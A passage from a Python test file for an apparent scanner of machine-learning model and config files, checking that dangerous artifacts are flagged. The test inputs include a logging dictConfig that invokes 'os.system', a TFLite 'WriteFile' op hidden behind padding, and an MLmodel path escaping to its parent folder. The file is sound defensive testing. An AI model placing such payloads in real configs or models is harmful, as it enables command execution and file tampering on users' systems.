    """``OmegaConf.load("config.json")`` parses with PyYAML: JSON that ``json.loads`` rejects is still a config."""
    assert _scan(tmp_path, "config.json", text)[1] is severity


def test_dict_config_in_toml(tmp_path: Path) -> None:
    """``dictConfig(tomllib.load(f))`` is a common pattern: the TOML document is judged like JSON and YAML."""
    text = 'version = 1\n[handlers.h]\n"()" = "os.system"\ncommand = "id"\n'
    assert _scan(tmp_path, "logging.toml", text)[1] is Severity.CRITICAL
    benign = 'version = 1\n[handlers.console]\nclass = "logging.StreamHandler"\nstream = "ext://sys.stderr"\n'
    verdict, top, titles = _scan(tmp_path, "logging.toml", benign)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


def test_tflite_flex_op_name_padded_far_into_the_options(tmp_path: Path) -> None:
    """A flexbuffer's strings can lie anywhere in it: the op name after 2 MiB of padding is still found."""
    options = b"\x00" * (2 * 1024**2) + _flex_options("WriteFile")
    data = _tflite([(CUSTOM, "FlexAddV2")], operators=[(0, options)])
    assert _scan(tmp_path, "model.tflite", data)[1] is Severity.HIGH


def test_requirement_sniff_is_linear(tmp_path: Path) -> None:
    """A first version matched requirement lines with nested repeats and backtracked for minutes on this line."""
    import time

    start = time.process_time()
    _verdict, top, titles = _scan(tmp_path, "deps.txt", "a" + "==1 " * 100_000 + "$\n--index-url https://x.example/\n")
    assert time.process_time() - start < 5.0 and top <= Severity.LOW, titles  # minutes before the fix


def test_mlmodel_data_naming_the_parent_folder(tmp_path: Path) -> None:
    """``data: ..``: MLflow joins it to the model folder, and the flavor loader reads the parent folder (unscanned)."""
    text = "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: ..\n"
    assert _scan(tmp_path, "MLmodel", text)[1] is Severity.HIGH
    benign = "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: model.pkl\n"
    verdict, top, titles = _scan(tmp_path, "MLmodel", benign)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles
